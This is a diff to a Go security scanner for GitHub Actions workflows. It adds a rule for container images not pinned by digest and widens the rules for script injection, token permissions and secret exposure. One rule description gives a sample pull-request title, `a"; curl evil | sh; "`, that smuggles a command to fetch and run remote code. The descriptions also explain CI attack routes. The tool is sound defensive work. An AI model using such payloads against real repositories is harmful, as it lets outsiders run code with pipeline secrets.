@@ -16,6 +16,7 @@ const (
 	RuleScriptInjection    = "script-injection"
 	RuleSecretExposure     = "secret-exposure"
 	RuleSelfHostedRunner   = "self-hosted-runner-public"
+	RuleUnpinnedImage      = "unpinned-image"
 	RuleUnparsable         = "unparsable-workflow"
 )
 
@@ -36,7 +37,7 @@ func Rules() []RuleInfo {
 				"is read-write on repositories and organisations created before 2023. Set permissions: {} or " +
 				"contents: read at the top and grant more per job.", Severity: threatmap.Medium},
 		{ID: RuleBroadPermissions, Title: "Over-broad GITHUB_TOKEN permissions",
-			Description: "permissions: write-all, or write scopes granted to every job at the workflow level. Any step that is " +
+			Description: "permissions: write-all, or write scopes granted to every job at the workflow level (read-all is reported at low severity: it reads private contents, packages and security alerts). Any step that is " +
 				"compromised (an unpinned action, an injected script) can push code, publish packages or mint OIDC " +
 				"tokens. Grant write scopes only to the job that needs them.", Severity: threatmap.Medium},
 		{ID: RuleUntrustedCheckout, Title: "Privileged trigger checks out untrusted code",
@@ -45,12 +46,20 @@ func Rules() []RuleInfo {
 				"lets any outside contributor run commands with them (a \"pwn request\"). Use pull_request for " +
 				"untrusted code, or split the privileged part into a separate workflow that never executes it.", Severity: threatmap.Critical},
 		{ID: RuleScriptInjection, Title: "Script injection from attacker-controlled context",
-			Description: "A run: script (or actions/github-script) interpolates ${{ }} values an outsider controls: issue and pull " +
-				"request titles and bodies, comment bodies, branch names, commit messages. The value is pasted into the " +
+			Description: "A run: script, or an input that an action runs as code (actions/github-script's script, azure/cli's " +
+				"inlineScript, yq's cmd, a local composite action's input that reaches its run:), interpolates ${{ }} " +
+				"values an outsider controls: issue and pull request titles and bodies, comment bodies, branch names, " +
+				"commit messages, env variables set from them, outputs of actions that echo pull-request file or branch names. " +
+				"ACTIONS_ALLOW_UNSECURE_COMMANDS is reported too: it lets any printed text set environment variables; so is such a " +
+				"value written into $GITHUB_ENV or $GITHUB_PATH, where a newline sets any variable for later steps. In a reusable workflow or composite action, the caller's " +
+				"inputs count too (medium severity). Comparisons and predicates such as contains() yield true or false " +
+				"and are not reported. The value is pasted into the " +
 				"script before the shell runs, so a title like `a\"; curl evil | sh; \"` executes. Pass the value " +
 				"through env: and use \"$VAR\" in the script.", Severity: threatmap.High},
 		{ID: RuleSecretExposure, Title: "Secret echoed or passed to an untrusted step",
-			Description: "A secret is printed by a run: step (log masking is best effort and fails on transformed values), passed " +
+			Description: "A secret is printed by a run: step (log masking is best effort and fails on transformed values), encoded " +
+				"on its way to the log, derived with fromJSON() (the masker only knows the whole value), over-provisioned " +
+				"with toJSON(secrets) or secrets[computed name], written as a literal registry password in container credentials, passed " +
 				"to a third-party action that is not pinned to a commit, or inherited by a reusable workflow from " +
 				"another repository that is not pinned. Keep secrets out of logs and give them only to pinned, " +
 				"reviewed code.", Severity: threatmap.High},
@@ -58,6 +67,11 @@ func Rules() []RuleInfo {
 			Description: "A job runs on a self-hosted runner for a trigger outsiders can fire (pull_request, issue_comment, ...). " +
 				"Self-hosted runners are not ephemeral by default: a fork's code can persist on the machine and reach " +
 				"the network it sits in. Use GitHub-hosted or ephemeral, isolated runners for public triggers.", Severity: threatmap.High},
+		{ID: RuleUnpinnedImage, Title: "Container image not pinned by digest",
+			Description: "A job container, a service container or a Docker action's image is referenced by a tag (or none, " +
+				"meaning latest) instead of a digest. The job runs that image with its secrets and token; whoever can " +
+				"push a new image under the tag runs code in the pipeline. Pin it with @sha256:... and let a bot " +
+				"update it. An untagged or latest image is medium severity, a version tag low.", Severity: threatmap.Medium},
 		{ID: RuleUnparsable, Title: "Workflow that cannot be parsed",
 			Description: "A workflow file is not valid YAML or not a workflow, so it was not audited. The finding names the " +
 				"position of the problem.", Severity: threatmap.Low},
@@ -84,6 +98,11 @@ var checks = []check{
 	checkScriptInjection,
 	checkSecretExposure,
 	checkSelfHostedRunner,
+	checkUnpinnedImages,
+	checkSecretOverexposure,
+	checkHardcodedCredentials,
+	checkInsecureCommands,
+	checkEnvFileInjection,
 }
 
 // finding builds a finding at a node's position.
